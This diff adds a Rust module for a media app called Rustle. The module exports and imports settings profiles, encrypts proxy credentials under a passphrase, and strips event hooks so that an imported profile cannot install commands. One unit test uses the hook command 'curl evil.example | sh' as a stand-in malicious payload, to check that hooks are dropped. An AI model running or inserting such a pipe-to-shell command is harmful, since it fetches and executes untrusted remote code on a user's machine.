@@ -0,0 +1,341 @@
+//! Settings profile export and import
+//!
+//! A profile is the whole settings file in one JSON document, for moving EQ,
+//! theme, shortcuts and layout to another machine. Proxy credentials are left
+//! out unless a passphrase is given; they then travel sealed with
+//! ChaCha20-Poly1305 under a key derived from it with PBKDF2-HMAC-SHA256, so
+//! a wrong passphrase fails to open them rather than yielding garbage.
+//!
+//! Imported settings go through the same version upgrade as the settings
+//! file, and a profile from a newer layout is refused.
+//!
+//! Choices that belong to the machine rather than the user, such as the
+//! output device and launch at login, are kept as they are on import. Event
+//! hooks run arbitrary commands, so they never travel in a profile either:
+//! importing one from someone else must not install anything that runs.
+
+use std::path::Path;
+
+use anyhow::{Context, Result, bail};
+use base64::{Engine as _, engine::general_purpose::STANDARD};
+use chacha20poly1305::aead::{Aead, KeyInit};
+use chacha20poly1305::{ChaCha20Poly1305, Nonce};
+use rand::Rng;
+use serde::{Deserialize, Serialize};
+use serde_json::Value;
+use sha2::Sha256;
+
+use super::settings::{self, SETTINGS_VERSION, Settings};
+
+/// Marks a JSON file as a settings profile
+const FORMAT: &str = "rustle-settings";
+
+/// Profile layout version, bumped when it changes incompatibly
+const VERSION: u32 = 1;
+
+/// PBKDF2-HMAC-SHA256 iterations deriving the key from the passphrase
+const KEY_ROUNDS: u32 = 600_000;
+
+/// Suggested file name for an export
+pub const FILE_NAME: &str = "rustle-settings.json";
+
+#[derive(Serialize, Deserialize)]
+struct Profile {
+    format: String,
+    version: u32,
+    /// Version of Rustle that wrote the profile
+    app_version: String,
+    /// The settings file, upgraded through [`settings::migrate`] on import
+    settings: Value,
+    #[serde(default, skip_serializing_if = "Option::is_none")]
+    secrets: Option<Sealed>,
+}
+
+/// Settings that are left out of a profile without a passphrase
+#[derive(Debug, Default, PartialEq, Serialize, Deserialize)]
+struct Secrets {
+    proxy_username: Option<String>,
+    proxy_password: Option<String>,
+}
+
+impl Secrets {
+    fn take(settings: &mut Settings) -> Self {
+        Self {
+            proxy_username: settings.network.proxy_username.take(),
+            proxy_password: settings.network.proxy_password.take(),
+        }
+    }
+
+    fn restore(self, settings: &mut Settings) {
+        settings.network.proxy_username = self.proxy_username;
+        settings.network.proxy_password = self.proxy_password;
+    }
+
+    fn is_empty(&self) -> bool {
+        self.proxy_username.is_none() && self.proxy_password.is_none()
+    }
+}
+
+/// Encrypted secrets, base64 encoded
+#[derive(Serialize, Deserialize)]
+struct Sealed {
+    salt: String,
+    nonce: String,
+    /// Ciphertext with the Poly1305 tag
+    data: String,
+}
+
+/// The passphrase doesn't open the secrets in a profile
+#[derive(Debug, Clone, Copy)]
+pub struct WrongPassphrase;
+
+impl std::fmt::Display for WrongPassphrase {
+    fn fmt(&self, f: &mut std::fmt::Formatter<'_>) -> std::fmt::Result {
+        write!(f, "wrong passphrase for the profile's credentials")
+    }
+}
+
+impl std::error::Error for WrongPassphrase {}
+
+/// What happened to the credentials in an imported profile
+#[derive(Debug, Clone, Copy, PartialEq, Eq)]
+pub enum SecretsImport {
+    /// The profile has none; the current ones are kept
+    NotIncluded,
+    /// Decrypted and applied
+    Restored,
+    /// Included, but no passphrase was given; the current ones are kept
+    Locked,
+}
+
+/// Write `settings` as a profile, with credentials if `passphrase` is given
+pub fn export(path: &Path, settings: &Settings, passphrase: Option<&str>) -> Result<()> {
+    let content = to_json(settings, passphrase)?;
+    std::fs::write(path, content).with_context(|| format!("Failed to write {:?}", path))
+}
+
+/// Read a profile, returning the settings to switch to
+pub fn import(
+    path: &Path,
+    current: &Settings,
+    passphrase: Option<&str>,
+) -> Result<(Settings, SecretsImport)> {
+    let content =
+        std::fs::read_to_string(path).with_context(|| format!("Failed to read {:?}", path))?;
+    from_json(&content, current, passphrase)
+}
+
+fn to_json(settings: &Settings, passphrase: Option<&str>) -> Result<String> {
+    let mut settings = settings.clone();
+    let secrets = Secrets::take(&mut settings);
+    // Only meaningful to the build that wrote it
+    settings.system.last_run_version.clear();
+    settings.hooks.clear();
+
+    let secrets = match passphrase.filter(|p| !p.is_empty()) {
+        Some(passphrase) if !secrets.is_empty() => Some(seal(&secrets, passphrase)?),
+        _ => None,
+    };
+    let profile = Profile {
+        format: FORMAT.to_string(),
+        version: VERSION,
+        app_version: env!("CARGO_PKG_VERSION").to_string(),
+        settings: serde_json::to_value(&settings)?,
+        secrets,
+    };
+    Ok(serde_json::to_string_pretty(&profile)?)
+}
+
+fn from_json(
+    content: &str,
+    current: &Settings,
+    passphrase: Option<&str>,
+) -> Result<(Settings, SecretsImport)> {
+    let value: Value = serde_json::from_str(content).context("Not a JSON file")?;
+    if value.get("format").and_then(|f| f.as_str()) != Some(FORMAT) {
+        bail!("Not a Rustle settings profile");
+    }
+    let profile: Profile = serde_json::from_value(value).context("Damaged settings profile")?;
+    if profile.version > VERSION {
+        bail!(
+            "Settings profile from Rustle {} needs a newer version",
+            profile.app_version
+        );
+    }
+
+    let mut value = profile.settings;
+    if settings::migrate(&mut value) > SETTINGS_VERSION {
+        bail!(
+            "Settings profile from Rustle {} needs a newer version",
+            profile.app_version
+        );
+    }
+    let mut settings: Settings =
+        serde_json::from_value(value).context("Damaged settings profile")?;
+    settings.keybindings.fill_missing_defaults();
+
+    // Machine-specific choices stay as they are here
+    settings.system.audio_output_device = current.system.audio_output_device.clone();
+    settings.system.launch_at_login = current.system.launch_at_login;
+    settings.system.now_playing.directory = current.system.now_playing.directory.clone();
+    settings.system.last_run_version = current.system.last_run_version.clone();
+    // Profiles written before hooks were left out may still carry some
+    settings.hooks = current.hooks.clone();
+
+    let status = match (profile.secrets, passphrase.filter(|p| !p.is_empty())) {
+        (Some(sealed), Some(passphrase)) => {
+            open(&sealed, passphrase)?.restore(&mut settings);
+            SecretsImport::Restored
+        }
+        (sealed, _) => {
+            settings.network.proxy_username = current.network.proxy_username.clone();
+            settings.network.proxy_password = current.network.proxy_password.clone();
+            if sealed.is_some() {
+                SecretsImport::Locked
+            } else {
+                SecretsImport::NotIncluded
+            }
+        }
+    };
+    Ok((settings, status))
+}
+
+/// Key derived from a passphrase
+fn derive_key(passphrase: &str, salt: &[u8]) -> [u8; 32] {
+    let mut key = [0u8; 32];
+    pbkdf2::pbkdf2_hmac::<Sha256>(passphrase.as_bytes(), salt, KEY_ROUNDS, &mut key);
+    key
+}
+
+fn seal(secrets: &Secrets, passphrase: &str) -> Result<Sealed> {
+    let mut salt = [0u8; 16];
+    let mut nonce = [0u8; 12];
+    rand::rng().fill(&mut salt[..]);
+    rand::rng().fill(&mut nonce[..]);
+
+    let key = derive_key(passphrase, &salt);
+    let plain = serde_json::to_vec(secrets)?;
+    let data = ChaCha20Poly1305::new(&key.into())
+        .encrypt(Nonce::from_slice(&nonce), plain.as_slice())
+        .map_err(|_| anyhow::anyhow!("Failed to encrypt credentials"))?;
+
+    Ok(Sealed {
+        salt: STANDARD.encode(salt),
+        nonce: STANDARD.encode(nonce),
+        data: STANDARD.encode(&data),
+    })
+}
+
+fn open(sealed: &Sealed, passphrase: &str) -> Result<Secrets> {
+    let decode = |field: &str| STANDARD.decode(field).context("Damaged settings profile");
+    let salt = decode(&sealed.salt)?;
+    let nonce: [u8; 12] = decode(&sealed.nonce)?
+        .try_into()
+        .map_err(|_| anyhow::anyhow!("Damaged settings profile"))?;
+    let data = decode(&sealed.data)?;
+
+    let key = derive_key(passphrase, &salt);
+    // The tag doesn't tell a wrong passphrase from tampering; either way
+    // nothing is applied
+    let plain = ChaCha20Poly1305::new(&key.into())
+        .decrypt(Nonce::from_slice(&nonce), data.as_slice())
+        .map_err(|_| WrongPassphrase)?;
+    Ok(serde_json::from_slice(&plain)?)
+}
+
+#[cfg(test)]
+mod tests {
+    use super::*;
+    use crate::features::hooks::EventHook;
+
+    fn settings_with_proxy() -> Settings {
+        let mut settings = Settings::default();
+        settings.display.dark_mode = !settings.display.dark_mode;
+        settings.network.proxy_username = Some("user".to_string());
+        settings.network.proxy_password = Some("secret".to_string());
+        settings
+    }
+
+    #[test]
+    fn test_export_leaves_out_credentials() {
+        let json = to_json(&settings_with_proxy(), None).unwrap();
+        assert!(!json.contains("secret"));
+
+        let (settings, status) = from_json(&json, &Settings::default(), None).unwrap();
+        assert_eq!(status, SecretsImport::NotIncluded);
+        assert_eq!(
+            settings.display.dark_mode,
+            settings_with_proxy().display.dark_mode
+        );
+        assert_eq!(settings.network.proxy_password, None);
+    }
+
+    #[test]
+    fn test_credentials_round_trip_with_passphrase() {
+        let json = to_json(&settings_with_proxy(), Some("hunter2")).unwrap();
+        assert!(!json.contains("secret"));
+
+        let (settings, status) = from_json(&json, &Settings::default(), Some("hunter2")).unwrap();
+        assert_eq!(status, SecretsImport::Restored);
+        assert_eq!(settings.network.proxy_password.as_deref(), Some("secret"));
+
+        let err = from_json(&json, &Settings::default(), Some("wrong")).unwrap_err();
+        assert!(err.downcast_ref::<WrongPassphrase>().is_some());
+
+        let (_, status) = from_json(&json, &Settings::default(), None).unwrap();
+        assert_eq!(status, SecretsImport::Locked);
+    }
+
+    #[test]
+    fn test_import_keeps_machine_choices() {
+        let mut exported = Settings::default();
+        exported.system.audio_output_device = Some("other machine".to_string());
+        let json = to_json(&exported, None).unwrap();
+
+        let mut current = Settings::default();
+        current.system.audio_output_device = Some("this machine".to_string());
+        let (settings, _) = from_json(&json, &current, None).unwrap();
+        assert_eq!(
+            settings.system.audio_output_device.as_deref(),
+            Some("this machine")
+        );
+    }
+
+    #[test]
+    fn test_hooks_never_travel() {
+        let mut exported = Settings::default();
+        exported.hooks.push(EventHook {
+            target: "curl evil.example | sh".to_string(),
+            ..Default::default()
+        });
+        let json = to_json(&exported, None).unwrap();
+        assert!(!json.contains("evil.example"));
+
+        // A hand-made profile that carries a hook anyway
+        let mut value: serde_json::Value = serde_json::from_str(&json).unwrap();
+        value["settings"]["hooks"] = serde_json::to_value(&exported.hooks).unwrap();
+        let (settings, _) = from_json(&value.to_string(), &Settings::default(), None).unwrap();
+        assert!(settings.hooks.is_empty());
+    }
+
+    #[test]
+    fn test_import_upgrades_old_layout() {
+        let mut json: Value =
+            serde_json::from_str(&to_json(&Settings::default(), None).unwrap()).unwrap();
+        // Written before the settings version was kept, missing a section
+        let old = json["settings"].as_object_mut().unwrap();
+        old.remove("version");
+        old.remove("storage");
+        let (settings, _) = from_json(&json.to_string(), &Settings::default(), None).unwrap();
+        assert_eq!(settings.version, SETTINGS_VERSION);
+
+        json["settings"]["version"] = (SETTINGS_VERSION + 1).into();
+        assert!(from_json(&json.to_string(), &Settings::default(), None).is_err());
+    }
+
+    #[test]
+    fn test_rejects_other_json() {
+        assert!(from_json("{\"volume\": 1.0}", &Settings::default(), None).is_err());
+        assert!(from_json("not json", &Settings::default(), None).is_err());
+    }
+}